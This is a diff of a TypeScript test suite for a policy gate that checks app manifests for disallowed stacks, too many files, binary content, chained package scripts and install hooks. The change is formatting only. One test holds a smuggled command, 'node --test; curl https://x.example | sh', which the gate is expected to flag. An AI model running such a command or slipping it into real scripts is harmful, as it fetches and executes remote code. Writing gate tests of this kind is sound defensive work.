@@ -95,7 +95,11 @@ npm test
 \`\`\`
 `;
 
-const PACKAGE_JSON = JSON.stringify({ name: 'todos', version: '1.0.0', private: true, scripts: { test: 'node --test', start: 'node server.js', build: 'echo nothing to build && exit 0' } }, null, 2);
+const PACKAGE_JSON = JSON.stringify(
+  { name: 'todos', version: '1.0.0', private: true, scripts: { test: 'node --test', start: 'node server.js', build: 'echo nothing to build && exit 0' } },
+  null,
+  2,
+);
 
 function todoApp(overrides: Partial<Manifest> = {}): Manifest {
   return {
@@ -148,7 +152,9 @@ describe('YamlPolicyGate', () => {
       ['child_process', 'server.js', 2],
       ['env_dump', 'server.js', 4],
     ]);
-    expect(verdict.violations[1]?.detail).toMatch(/^auditCommand "node --test; curl https:\/\/x.example \| sh" contains ";" \(a command separator\); allowed shapes: node --test \| /);
+    expect(verdict.violations[1]?.detail).toMatch(
+      /^auditCommand "node --test; curl https:\/\/x.example \| sh" contains ";" \(a command separator\); allowed shapes: node --test \| /,
+    );
   });
 
   it('holds only strings, integers and null, so the verdict can go into a hash-chained event', () => {
@@ -175,7 +181,9 @@ describe('YamlPolicyGate', () => {
 
   describe('allowed_stacks', () => {
     it('blocks a stack that is not listed', () => {
-      expect(gate.check(todoApp({ stack: 'rust' })).violations).toEqual([{ rule: 'allowed_stacks', file: null, line: null, detail: 'stack "rust" is not allowed (allowed: node)' }]);
+      expect(gate.check(todoApp({ stack: 'rust' })).violations).toEqual([
+        { rule: 'allowed_stacks', file: null, line: null, detail: 'stack "rust" is not allowed (allowed: node)' },
+      ]);
     });
     it('allows node', () => expect(gate.check(todoApp({ stack: 'node' })).allowed).toBe(true));
   });
@@ -183,7 +191,9 @@ describe('YamlPolicyGate', () => {
   describe('max_files', () => {
     const many = (count: number): ManifestFile[] => Array.from({ length: count }, (_, index) => ({ path: `src/f${index}.js`, content: '' }));
     it('blocks more than 200 files', () => {
-      expect(gate.check(withFiles(...many(201))).violations).toEqual([expect.objectContaining({ rule: 'max_files', detail: 'the manifest has 201 files (at most 200)' })]);
+      expect(gate.check(withFiles(...many(201))).violations).toEqual([
+        expect.objectContaining({ rule: 'max_files', detail: 'the manifest has 201 files (at most 200)' }),
+      ]);
     });
     it('allows exactly 200', () => expect(gate.check(withFiles(...many(200))).allowed).toBe(true));
   });
@@ -209,7 +219,9 @@ describe('YamlPolicyGate', () => {
   describe('binary_content', () => {
     it('blocks content that looks binary', () => {
       for (const content of ['\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR', 'text\u0001\u0002\u0003\u0004 then more']) {
-        expect(gate.check(withFiles({ path: 'logo.png', content })).violations).toEqual([expect.objectContaining({ rule: 'binary_content', file: 'logo.png' })]);
+        expect(gate.check(withFiles({ path: 'logo.png', content })).violations).toEqual([
+          expect.objectContaining({ rule: 'binary_content', file: 'logo.png' }),
+        ]);
       }
     });
     it('allows text with tabs, CRLF, emoji, accents and an odd escape character', () => {
@@ -225,11 +237,21 @@ describe('YamlPolicyGate', () => {
     it('blocks a script that npm test would run and that is not a command shape, pointing at its line', () => {
       const verdict = gate.check(withPackage({ pretest: 'node setup.js', test: 'node --test && node report.js' }));
       expect(verdict.violations).toEqual([
-        expect.objectContaining({ rule: 'package_script', file: 'package.json', line: 5, detail: expect.stringMatching(/^script "test" \(run by auditCommand \(npm test\)\) "node --test && node report.js" contains "&"/) }),
+        expect.objectContaining({
+          rule: 'package_script',
+          file: 'package.json',
+          line: 5,
+          detail: expect.stringMatching(/^script "test" \(run by auditCommand \(npm test\)\) "node --test && node report.js" contains "&"/),
+        }),
       ]);
       expect(gate.check(withPackage({ test: 'npm test' })).violations.map((v) => v.rule)).toEqual(['package_script']);
-      const described = todoApp({ auditCommand: 'npm test', files: [{ path: 'package.json', content: '{\n  "description": "test",\n  "scripts": {\n    "test" : "node --test notes.md"\n  }\n}' }] });
-      expect(gate.check(described).violations).toEqual([expect.objectContaining({ rule: 'package_script', line: 4, detail: expect.stringContaining('names notes.md, a prose file') })]);
+      const described = todoApp({
+        auditCommand: 'npm test',
+        files: [{ path: 'package.json', content: '{\n  "description": "test",\n  "scripts": {\n    "test" : "node --test notes.md"\n  }\n}' }],
+      });
+      expect(gate.check(described).violations).toEqual([
+        expect.objectContaining({ rule: 'package_script', line: 4, detail: expect.stringContaining('names notes.md, a prose file') }),
+      ]);
     });
 
     it('blocks an install hook in any package.json', () => {
